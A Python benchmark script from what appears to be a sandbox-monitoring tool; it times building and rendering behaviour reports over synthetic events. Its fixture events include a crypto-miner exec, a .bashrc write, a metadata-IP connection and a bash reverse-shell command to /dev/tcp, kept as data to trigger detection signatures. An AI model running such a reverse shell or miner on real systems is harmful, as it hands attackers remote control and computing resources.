"""What a behaviour report costs for a big record: build (record/report.py) from a real store, then
render it as text and as the self-contained HTML page (record/report_html.py).

    .venv/bin/python benchmarks/report.py [--events 100000] [--rounds 5]

A real EventStore on a SQLite file in a temporary directory, filled with `--events` events of a
session's mix (execs with argv and exits, file writes and creates, connections and DNS answers,
refusals, API calls, a few that raise signatures: a miner, a `.bashrc` write, a metadata connection, a
reverse shell), then, each round: `report.build(store.iterate(...), store.summary(...))` as the
server does it (paging the events out of SQLite included), `report.render` (text), `report_html.render`
(+ encode to bytes, as served). Printed: the median ms of each and the sizes of the outputs and of
the JSON report. No root, no sandbox.
"""

from __future__ import annotations

import argparse
import asyncio
import json
import os
import statistics
import sys
import tempfile
import time
from pathlib import Path
from typing import Any

sys.path.insert(0, os.path.dirname(os.path.dirname(os.path.abspath(__file__))))

from agentcell.record import report, report_html  # noqa: E402
from agentcell.record.events import event  # noqa: E402
from agentcell.record.store import EventStore, Limits  # noqa: E402

SID = "benchreport"


def _mix(n: int) -> list[dict[str, Any]]:
    shapes = [
        lambda i: event("process.exec", pid=100 + i % 700, ppid=100 + (i // 7) % 700, path="/usr/bin/python3",
                        argv=["python3", "-c", f"print({i})"], cwd="/home/user", uid=1000),
        lambda i: event("process.exit", pid=100 + i % 700, code=i % 3, duration_s=0.01, comm="python3"),
        lambda i: event("file.write", path=f"/home/user/build/obj{i % 4000}.o", size=4096, count=1),
        lambda i: event("file.create", path=f"/tmp/t{i}", size=0),
        lambda i: event("net.connect", proto="tcp", dst=f"151.101.{i % 50}.223", dport=443, domain="pypi.org",
                        rule="policy", state="open"),
        lambda i: event("dns.query", domain=f"h{i % 300}.example.org", type="A", answers=["151.101.0.223"],
                        rcode="NOERROR", verdict="allowed"),
        lambda i: event("deny.syscall", syscall="getrandom", nr=318, action="errno"),
        lambda i: event("api.call", source="api", action="process.Start", key_id="token:0123456789ab",
                        status=200, cmd="ls -la"),
    ]
    out = [shapes[i % len(shapes)](i) for i in range(n)]
    bad = [event("process.exec", pid=9000, ppid=100, path="/tmp/xmrig", argv=["xmrig", "-o", "stratum+tcp://p:3333"]),
           event("file.write", path="/home/user/.bashrc", size=10, count=1),
           event("net.deny", dst="169.254.169.254", dport=80, rule="never4"),
           event("process.exec", pid=9001, ppid=100, path="/bin/bash",
                 argv=["bash", "-c", "bash -i >& /dev/tcp/203.0.113.9/4444 0>&1"])]
    for k, e in enumerate(bad):  # spread over the record: some in the timeline, most past it
        out[(k + 1) * n // (len(bad) + 1)] = e
    return out


async def _fill(path: Path, n: int) -> EventStore:
    store = EventStore(path, Limits(per_sandbox=10**9, rate=1e12, burst=10**12, max_rows=10**9, queue=10**9))
    await store.start()
    store.begin(SID)
    for e in _mix(n):
        store.add(SID, e)
    store.end(SID)
    await store.flush()
    return store


def main() -> None:
    ap = argparse.ArgumentParser(description=__doc__, formatter_class=argparse.RawDescriptionHelpFormatter)
    ap.add_argument("--events", type=int, default=100_000)
    ap.add_argument("--rounds", type=int, default=5)
    args = ap.parse_args()
    times: dict[str, list[float]] = {"build (JSON report)": [], "text render": [], "HTML render": [],
                                     "JSON encode": []}
    with tempfile.TemporaryDirectory(prefix="agentcell-report-") as d:
        loop = asyncio.new_event_loop()
        t0 = time.perf_counter()
        store = loop.run_until_complete(_fill(Path(d) / "events.db", args.events))
        print(f"store filled with {args.events} events in {time.perf_counter() - t0:.1f} s")
        try:
            for _ in range(args.rounds):
                t0 = time.perf_counter()
                built = report.build(store.iterate(SID), store.summary(SID))
                t1 = time.perf_counter()
                text = report.render(built)
                t2 = time.perf_counter()
                page = report_html.encode(report_html.render(built))
                t3 = time.perf_counter()
                as_json = json.dumps(built, default=str)
                t4 = time.perf_counter()
                for name, took in zip(times, (t1 - t0, t2 - t1, t3 - t2, t4 - t3), strict=True):
                    times[name].append(took)
        finally:
            loop.run_until_complete(store.close())
            loop.close()
    for name, took in times.items():
        print(f"{name:<20} median {statistics.median(took) * 1e3:8.1f} ms  (min {min(took) * 1e3:.1f}, "
              f"max {max(took) * 1e3:.1f}; {args.rounds} rounds)")
    print(f"sizes: text {len(text.encode()) / 1024:.0f} KiB, HTML {len(page) / 1024:.0f} KiB "
          f"({built['timeline_total']} events, {len(built['timeline'])} + {len(built['timeline_flagged'])} in the "
          f"timeline), JSON report {len(as_json.encode()) / 1024:.0f} KiB; signatures: "
          + ", ".join(f"{s['signature']} ({s['severity']})" for s in built["signatures"]))


if __name__ == "__main__":
    main()
